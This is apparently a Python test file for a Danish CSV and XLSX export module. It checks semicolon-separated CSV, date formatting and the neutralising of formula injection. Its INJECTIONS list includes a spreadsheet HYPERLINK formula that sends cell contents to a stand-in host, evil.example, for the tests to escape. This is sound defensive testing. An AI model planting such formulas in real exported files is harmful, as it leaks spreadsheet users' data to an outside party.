"""The one writer of CSV and XLSX files (core/exports.py): Danish Excel's CSV, real XLSX
dates, and no formula run from a cell."""

import io
from datetime import UTC, date, datetime

from openpyxl import load_workbook

from core.exports import FORMULA_STARTS, csv_text, neutralise, table_response
from tests.exports import content_of, read_csv

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Klik")',
    "+45 1234",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def test_it_neutralises_every_formula_start():
    for text in INJECTIONS:
        assert neutralise(text) == "'" + text
    assert neutralise("Agnete") == "Agnete"
    assert neutralise("a=b") == "a=b"
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_it_writes_csv_for_danish_excel():
    def response():
        return table_response(
            fmt="csv",
            filename="liste",
            headers=["Navn", "Dato", "Tid", "Antal", "Ja"],
            rows=[["Åse; Ørn", date(2026, 3, 4), datetime(2026, 3, 4, 9, 5, tzinfo=UTC), 3, True]],
        )

    raw = content_of(response())
    assert raw.startswith("\ufeff".encode())
    assert 'Navn;Dato;Tid;Antal;Ja\r\n"Åse; Ørn";04-03-2026;'.encode() in raw
    rows = read_csv(response())
    assert rows[1] == ["Åse; Ørn", "04-03-2026", "04-03-2026 10:05", "3", "Ja"]
    assert response()["Content-Disposition"].startswith('attachment; filename="liste-')


def test_it_neutralises_formulas_in_both_formats():
    for fmt in ("csv", "xlsx"):
        response = table_response(
            fmt=fmt, filename="liste", headers=["Navn"], rows=[[text] for text in INJECTIONS]
        )
        if fmt == "csv":
            values = [row[0] for row in read_csv(response)[1:]]
        else:
            sheet = load_workbook(io.BytesIO(content_of(response))).active
            cells = [row[0] for row in sheet.iter_rows(min_row=2)]
            assert {cell.data_type for cell in cells} == {"s"}  # text, not a formula
            # XML keeps a carriage return as a line feed; the apostrophe is what counts.
            values = [cell.value.replace("\n", "\r") for cell in cells]
        assert values == ["'" + text for text in INJECTIONS], fmt


def test_it_writes_real_dates_in_xlsx_shown_the_danish_way():
    response = table_response(
        fmt="xlsx", filename="liste", headers=["Dato", "Tom"], rows=[[date(2026, 3, 4), None]]
    )
    sheet = load_workbook(io.BytesIO(content_of(response))).active
    assert sheet.title == "liste"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet["A2"].value == datetime(2026, 3, 4)
    assert sheet["A2"].number_format == "dd-mm-yyyy"
    assert sheet["B2"].value is None


def test_it_writes_empty_and_number_cells_plainly():
    assert csv_text(None) == ""
    assert csv_text(-3) == "-3"  # a number is no formula
    assert csv_text("-3") == "'-3"
